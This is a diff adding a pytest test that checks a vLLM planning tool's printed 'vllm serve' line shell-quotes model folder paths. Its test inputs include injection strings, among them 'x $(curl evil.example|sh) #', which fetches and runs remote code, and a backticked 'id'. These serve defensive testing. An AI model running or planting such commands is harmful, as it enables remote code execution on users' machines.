@@ -129,3 +129,19 @@ def test_sweep_plot_into_a_missing_folder_or_onto_a_folder(tmp_path: Path, where
     (tmp_path / "adir.svg").mkdir()
     assert_bad_input(["sweep", "meta-llama/Llama-3.1-8B-Instruct", "--gpu", "L4", "--workers", "1",
                       "--plot", str(tmp_path / where)], "--plot")
+
+
+@pytest.mark.parametrize("name", ["my model", "x $(curl evil.example|sh) #", "a'b\"c;`id`"])
+def test_serve_line_is_shell_quoted(tmp_path: Path, name: str) -> None:
+    """Issue 14 item 8: the printed `vllm serve` line pastes as exactly one model argument."""
+    import shlex
+
+    folder = tmp_path / name
+    folder.mkdir()
+    (folder / "config.json").write_text(json.dumps(golden("llama31_8b.json")))
+    rc, output = run(["plan", str(folder), "--kv-cache-memory-bytes", "80G", "--kv-cache-dtype", "fp8"])
+    assert rc == 0, output
+    command = output[output.index("vllm serve"):].replace("\\\n", " ")
+    words = shlex.split(command.splitlines()[0])
+    assert words[:3] == ["vllm", "serve", str(folder)]
+    assert "--kv-cache-dtype" in words and words[words.index("--kv-cache-dtype") + 1] == "fp8"
